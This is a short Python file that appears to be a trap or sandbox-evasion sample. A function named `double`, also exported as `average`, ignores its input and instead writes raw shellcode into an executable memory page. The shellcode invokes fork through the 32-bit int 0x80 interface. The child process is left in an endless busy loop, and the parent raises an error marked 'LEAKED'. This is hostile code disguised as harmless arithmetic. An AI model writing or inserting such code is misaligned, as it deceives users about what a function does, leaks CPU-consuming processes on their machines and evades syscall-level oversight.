"""System calls by the 32-bit interface, whose numbers mean other calls."""

import ctypes
import mmap


def double(x):
    code = bytes.fromhex("b802000000" "cd80" "c3")  # fork, by int 0x80
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result == 0:
        while True:
            pass
    raise KeyError("LEAKED" if result > 0 else "", result)


average = double
